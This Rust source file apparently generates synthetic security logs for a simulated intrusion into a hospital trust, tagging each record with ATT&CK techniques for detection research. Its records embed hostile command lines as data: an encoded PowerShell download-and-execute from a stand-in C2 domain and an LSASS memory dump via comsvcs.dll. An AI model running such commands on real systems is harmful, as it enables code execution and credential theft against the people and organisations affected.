//! Scenario `apt2018`: a capable actor as in January 2018 — phishing, an
//! HTTPS implant beaconing with jitter, credential theft from LSASS, lateral
//! movement over SMB/RDP/WinRM to a domain controller and the EHR servers,
//! bulk reads from the EHR with a stolen clinician's account preferring
//! protected persons, and exfiltration over HTTPS and a DNS tunnel. Every
//! record it writes carries its ATT&CK technique and stage into `truth/`.

use std::collections::BTreeSet;
use std::net::Ipv4Addr;

use crate::format::{audit_event, conn, dns, ssl, uid, windows};
use crate::output::{Rec, Stream, Tag};
use crate::region::{HostKind, Role};
use crate::rng::Rng;
use crate::{HOUR, MINUTE, SECOND, SimError, Speed, Stealth, World};

/// The attacker's infrastructure (documentation address ranges: never real hosts).
pub const C2_DOMAIN: &str = "cdn-telemetry-sync.net";
/// Command-and-control address.
pub const C2_IP: [u8; 4] = [198, 51, 100, 23];
/// Exfiltration address.
pub const EXFIL_IP: [u8; 4] = [203, 0, 113, 77];
/// DNS tunnel domain.
pub const TUNNEL_DOMAIN: &str = "t.msft-update-check.com";

/// The attack's plan and state.
#[derive(Debug, Clone)]
pub struct Attack {
    /// Target trust.
    pub trust: usize,
    /// The phished clinician (staff index); their account reads the EHR.
    pub victim: usize,
    /// The administrator whose credentials are stolen.
    pub admin: usize,
    /// When each stage starts, ns.
    pub t_initial: i64,
    t_cred: i64,
    t_discovery: i64,
    /// When the administrator's stolen credentials are first used.
    pub t_lateral: i64,
    t_collect: i64,
    t_collect_end: i64,
    t_exfil: i64,
    beacon_every: i64,
    jitter: f64,
    next_beacon: i64,
    /// Patients to read, in order.
    targets: Vec<u32>,
    read: usize,
    /// Patients the attacker's own collection read so far.
    pub collected: BTreeSet<u32>,
    /// Hosts reached.
    pub hosts: BTreeSet<usize>,
}

fn tag(stage: &'static str, technique: &'static str, host: &str, account: &str) -> Option<Tag> {
    Some(Tag {
        stage,
        technique,
        host: host.to_owned(),
        account: account.to_owned(),
    })
}

impl Attack {
    /// Plans the attack on the largest trust, starting at `start`.
    pub fn plan(
        world: &World,
        rng: &mut Rng,
        start: i64,
        speed: Speed,
        stealth: Stealth,
    ) -> Attack {
        let r = world.region;
        let trust = (0..r.trusts.len())
            .max_by_key(|t| world.trust_staff[*t].len())
            .unwrap_or(0);
        let staff = &world.trust_staff[trust];
        let pick_role = |rng: &mut Rng, role: Role| -> usize {
            let of: Vec<usize> = staff
                .iter()
                .copied()
                .filter(|s| r.staff[*s].role == role && !r.staff[*s].night)
                .collect();
            if of.is_empty() {
                staff[0]
            } else {
                *rng.pick(&of)
            }
        };
        let victim = pick_role(rng, Role::Physician);
        let admin = pick_role(rng, Role::ItAdmin);
        let scale = match speed {
            Speed::Fast => 1.0 / 12.0,
            Speed::Normal => 1.0,
            Speed::Slow => 3.0,
        };
        let at = |h: f64| start + (h * scale * HOUR as f64) as i64;
        let (beacon_every, jitter, reads, collect_hours) = match stealth {
            Stealth::Low => (60 * SECOND, 0.1, 3000usize, 2.0),
            Stealth::Medium => (300 * SECOND, 0.2, 800, 10.0),
            Stealth::High => (900 * SECOND, 0.35, 200, 30.0),
        };
        // Protected persons first, then others of the trust.
        let pool = &world.trust_patients[trust];
        let mut targets: Vec<u32> = pool
            .iter()
            .copied()
            .filter(|p| r.patients[*p as usize].protected.is_some())
            .collect();
        let want = reads.min(pool.len() / 2).max(targets.len());
        let mut seen: BTreeSet<u32> = targets.iter().copied().collect();
        let mut guard = 0;
        while targets.len() < want && guard < want * 20 {
            guard += 1;
            let p = *rng.pick(pool);
            if seen.insert(p) {
                targets.push(p);
            }
        }
        Attack {
            trust,
            victim,
            admin,
            t_initial: at(0.0),
            t_cred: at(2.0),
            t_discovery: at(6.0),
            t_lateral: at(24.0),
            t_collect: at(36.0),
            t_collect_end: at(36.0 + collect_hours),
            t_exfil: at(40.0 + collect_hours),
            beacon_every,
            jitter,
            next_beacon: at(0.0) + 5 * MINUTE,
            targets,
            read: 0,
            collected: BTreeSet::new(),
            hosts: BTreeSet::new(),
        }
    }

    /// Whether an EHR access at `t` by practitioner `who` from `address` was
    /// made in a session the attacker controlled: by the phished clinician's
    /// account or from their workstation after the initial access (the
    /// implant sees what the workstation shows), or by the administrator's
    /// account after the attacker first used it.
    pub fn controls(&self, world: &World, who: &str, address: Ipv4Addr, t: i64) -> bool {
        let r = world.region;
        let v = &r.staff[self.victim];
        (t >= self.t_initial && (who == v.id || address == r.hosts[v.workstation].ip))
            || (t >= self.t_lateral && who == r.staff[self.admin].id)
    }

    /// The attacker's records in the hour starting at `t0`.
    pub fn hour(
        &mut self,
        world: &mut World,
        rng: &mut Rng,
        t0: i64,
        recs: &mut Vec<Rec>,
    ) -> Result<(), SimError> {
        let t1 = t0 + HOUR;
        let r = world.region;
        let trust = self.trust;
        let v = &r.staff[self.victim];
        let a = &r.staff[self.admin];
        let ws = v.workstation;
        let ws_ip = r.hosts[ws].ip;
        let ws_name = r.hosts[ws].name.clone();
        let dc = r.server(trust, HostKind::DomainController);
        let ehr = r.servers(trust, HostKind::Ehr);
        let c2 = Ipv4Addr::from(C2_IP);
        let in_hour = |t: i64| t >= t0 && t < t1;
        let user = format!("HELSE\\{}", v.user);
        let win = |world: &mut World,
                   recs: &mut Vec<Rec>,
                   t: i64,
                   host: usize,
                   channel: &str,
                   provider: &str,
                   id: u32,
                   data: &[(&str, String)],
                   tg: Option<Tag>| {
            world.records[host] += 1;
            let text = windows(
                t,
                &r.hosts[host].name,
                channel,
                provider,
                id,
                world.records[host],
                data,
            );
            recs.push(Rec {
                t,
                trust,
                stream: Stream::Windows,
                text,
                tag: tg,
            });
        };

        // Initial access: Outlook saves the phishing attachment (Sysmon's
        // file creation), Word opens it, the macro starts an encoded PowerShell.
        if in_hour(self.t_initial) {
            let t = self.t_initial;
            self.hosts.insert(ws);
            let doc = format!(
                "C:\\Users\\{}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7X2K1LM\\Timeplan_januar.docm",
                v.user
            );
            win(
                world,
                recs,
                t,
                ws,
                "Microsoft-Windows-Sysmon/Operational",
                "Microsoft-Windows-Sysmon",
                11,
                &[
                    (
                        "Image",
                        "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE".into(),
                    ),
                    ("TargetFilename", doc.clone()),
                    ("User", user.clone()),
                ],
                tag("initial-access", "T1566.001", &ws_name, &v.user),
            );
            win(
                world,
                recs,
                t + 8 * SECOND,
                ws,
                "Microsoft-Windows-Sysmon/Operational",
                "Microsoft-Windows-Sysmon",
                1,
                &[
                    (
                        "Image",
                        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE".into(),
                    ),
                    (
                        "CommandLine",
                        format!(
                            "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"{doc}\""
                        ),
                    ),
                    (
                        "ParentImage",
                        "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE".into(),
                    ),
                    ("User", user.clone()),
                ],
                tag("initial-access", "T1566.001", &ws_name, &v.user),
            );
            win(world, recs, t + 20 * SECOND, ws, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 1, &[
                ("Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe".into()),
                ("CommandLine", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBjAGQAbgAtAHQAZQBsAGUAbQBlAHQAcgB5AC0AcwB5AG4AYwAuAG4AZQB0AC8AYQAnACkA".into()),
                ("ParentImage", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE".into()),
                ("User", user.clone()),
            ], tag("execution", "T1059.001", &ws_name, &v.user));
            let u = uid(rng);
            recs.push(Rec {
                t: t + 25 * SECOND,
                trust,
                stream: Stream::Dns,
                text: dns(
                    t + 25 * SECOND,
                    &u,
                    ws_ip,
                    53000,
                    r.hosts[dc].ip,
                    4242,
                    C2_DOMAIN,
                    "A",
                    &[c2.to_string()],
                ),
                tag: tag("command-and-control", "T1071.001", &ws_name, &v.user),
            });
        }
        // The implant beacons over HTTPS with jitter until the end.
        while self.next_beacon < t1 {
            let t = self.next_beacon;
            if t >= t0 {
                let u = uid(rng);
                let sp = 49152 + rng.below(16000) as u16;
                let out = 300 + rng.below(300);
                let inb = 200 + rng.below(800);
                recs.push(Rec {
                    t,
                    trust,
                    stream: Stream::Conn,
                    text: conn(t, &u, ws_ip, sp, c2, 443, "tcp", "ssl", 0.3, out, inb),
                    tag: tag("command-and-control", "T1071.001", &ws_name, &v.user),
                });
                recs.push(Rec {
                    t,
                    trust,
                    stream: Stream::Ssl,
                    text: ssl(t, &u, ws_ip, sp, c2, 443, C2_DOMAIN),
                    tag: tag("command-and-control", "T1071.001", &ws_name, &v.user),
                });
            }
            let j = 1.0 + self.jitter * (2.0 * rng.unit() - 1.0);
            self.next_beacon = t + (self.beacon_every as f64 * j) as i64;
        }
        // Credential access: LSASS dumped with comsvcs.dll; an administrator's credentials taken.
        if in_hour(self.t_cred) {
            let t = self.t_cred;
            win(world, recs, t, ws, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 1, &[
                ("Image", "C:\\Windows\\System32\\rundll32.exe".into()),
                ("CommandLine", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 672 C:\\Users\\Public\\dbg.bin full".into()),
                ("ParentImage", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe".into()),
                ("User", user.clone()),
            ], tag("credential-access", "T1003.001", &ws_name, &v.user));
            win(world, recs, t + SECOND, ws, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 10, &[
                ("SourceImage", "C:\\Windows\\System32\\rundll32.exe".into()),
                ("TargetImage", "C:\\Windows\\System32\\lsass.exe".into()),
                ("GrantedAccess", "0x1FFFFF".into()),
                ("CallTrace", "C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|C:\\Windows\\System32\\comsvcs.dll+2a6b3|UNKNOWN(0000021A3C5E0000)".into()),
            ], tag("credential-access", "T1003.001", &ws_name, &v.user));
        }
        // Discovery.
        if in_hour(self.t_discovery) {
            let t = self.t_discovery;
            win(
                world,
                recs,
                t,
                ws,
                "Microsoft-Windows-Sysmon/Operational",
                "Microsoft-Windows-Sysmon",
                1,
                &[
                    ("Image", "C:\\Windows\\System32\\net.exe".into()),
                    ("CommandLine", "net group \"domain admins\" /domain".into()),
                    (
                        "ParentImage",
                        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe".into(),
                    ),
                    ("User", user.clone()),
                ],
                tag("discovery", "T1087.002", &ws_name, &v.user),
            );
        }
        // Lateral movement with the administrator's account: SMB to the DC, WinRM and RDP to the EHR servers.
        if in_hour(self.t_lateral) {
            let mut t = self.t_lateral;
            for (target, port, service, technique) in [
                (dc, 445u16, "smb", "T1021.002"),
                (ehr[0], 5985, "http", "T1021.006"),
                (ehr[1], 3389, "rdp", "T1021.001"),
            ] {
                self.hosts.insert(target);
                let u = uid(rng);
                let tname = r.hosts[target].name.clone();
                recs.push(Rec {
                    t,
                    trust,
                    stream: Stream::Conn,
                    text: conn(
                        t,
                        &u,
                        ws_ip,
                        49152 + rng.below(16000) as u16,
                        r.hosts[target].ip,
                        port,
                        "tcp",
                        service,
                        120.0,
                        40_000,
                        90_000,
                    ),
                    tag: tag("lateral-movement", technique, &tname, &a.user),
                });
                win(
                    world,
                    recs,
                    t + SECOND,
                    target,
                    "Security",
                    "Microsoft-Windows-Security-Auditing",
                    4624,
                    &[
                        ("TargetUserName", a.user.clone()),
                        ("TargetDomainName", "HELSE".into()),
                        (
                            "LogonType",
                            if port == 3389 {
                                "10".into()
                            } else {
                                "3".into()
                            },
                        ),
                        ("IpAddress", ws_ip.to_string()),
                        ("LogonProcessName", "NtLmSsp".into()),
                        ("AuthenticationPackageName", "NTLM".into()),
                    ],
                    tag("lateral-movement", "T1078.002", &tname, &a.user),
                );
                if port == 445 {
                    win(
                        world,
                        recs,
                        t + 3 * SECOND,
                        target,
                        "System",
                        "Service Control Manager",
                        7045,
                        &[
                            ("ServiceName", "PSEXESVC".into()),
                            ("ImagePath", "%SystemRoot%\\PSEXESVC.exe".into()),
                            ("ServiceType", "user mode service".into()),
                            ("StartType", "demand start".into()),
                            ("AccountName", "LocalSystem".into()),
                        ],
                        tag("lateral-movement", "T1569.002", &tname, &a.user),
                    );
                }
                if port == 5985 {
                    win(
                        world,
                        recs,
                        t + 4 * SECOND,
                        target,
                        "Microsoft-Windows-Sysmon/Operational",
                        "Microsoft-Windows-Sysmon",
                        1,
                        &[
                            (
                                "Image",
                                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
                                    .into(),
                            ),
                            (
                                "CommandLine",
                                "powershell.exe -NoProfile -Command Get-ChildItem D:\\EPJ\\export"
                                    .into(),
                            ),
                            (
                                "ParentImage",
                                "C:\\Windows\\System32\\wsmprovhost.exe".into(),
                            ),
                            ("User", format!("HELSE\\{}", a.user)),
                        ],
                        tag("lateral-movement", "T1021.006", &tname, &a.user),
                    );
                }
                t += 10 * MINUTE;
            }
        }
        // Collection: the victim's EHR account reads record after record, protected persons first.
        if self.read < self.targets.len() && self.t_collect < t1 && self.t_collect_end > t0 {
            let span = (self.t_collect_end - self.t_collect).max(1);
            let per_ns = self.targets.len() as f64 / span as f64;
            let from = self.t_collect.max(t0);
            let to = self.t_collect_end.min(t1);
            let due =
                (((to - self.t_collect) as f64 * per_ns).ceil() as usize).min(self.targets.len());
            let start_n = self.read;
            let n = due.saturating_sub(start_n);
            for k in 0..n {
                let t =
                    from + ((to - from) as f64 * (k as f64 + rng.unit()) / n.max(1) as f64) as i64;
                let p = self.targets[self.read];
                self.read += 1;
                self.collected.insert(p);
                let id = world.next_audit_id();
                let pid = r.patients[p as usize].id.as_str();
                let text = audit_event(
                    &id,
                    t,
                    "read",
                    &v.id,
                    &v.name,
                    ws_ip,
                    &r.hosts[ehr[0]].name,
                    "TREAT",
                    &[pid],
                );
                recs.push(Rec {
                    t,
                    trust,
                    stream: Stream::Audit,
                    text,
                    tag: tag("collection", "T1213", &r.hosts[ehr[0]].name, &v.user),
                });
            }
        }
        // Exfiltration: one large HTTPS upload, then a DNS tunnel.
        if in_hour(self.t_exfil) {
            let t = self.t_exfil;
            let exfil = Ipv4Addr::from(EXFIL_IP);
            let u = uid(rng);
            let bytes = 150_000_000 + self.collected.len() as u64 * 40_000;
            let sp = 49152 + rng.below(16000) as u16;
            recs.push(Rec {
                t,
                trust,
                stream: Stream::Conn,
                text: conn(
                    t, &u, ws_ip, sp, exfil, 443, "tcp", "ssl", 600.0, bytes, 60_000,
                ),
                tag: tag("exfiltration", "T1048.002", &ws_name, &v.user),
            });
            recs.push(Rec {
                t,
                trust,
                stream: Stream::Ssl,
                text: ssl(t, &u, ws_ip, sp, exfil, 443, "files.storage-share.org"),
                tag: tag("exfiltration", "T1048.002", &ws_name, &v.user),
            });
            for i in 0..400 {
                let tq = t + 15 * MINUTE + i * 4 * SECOND + rng.range(0, SECOND);
                let label = rng.hex(48);
                let q = format!("{label}.{i}.{TUNNEL_DOMAIN}");
                let u = uid(rng);
                recs.push(Rec {
                    t: tq,
                    trust,
                    stream: Stream::Dns,
                    text: dns(
                        tq,
                        &u,
                        ws_ip,
                        50000 + rng.below(10000) as u16,
                        r.hosts[dc].ip,
                        rng.below(65535) as u16,
                        &q,
                        "TXT",
                        &[],
                    ),
                    tag: tag("exfiltration", "T1048.003", &ws_name, &v.user),
                });
            }
        }
        Ok(())
    }
}
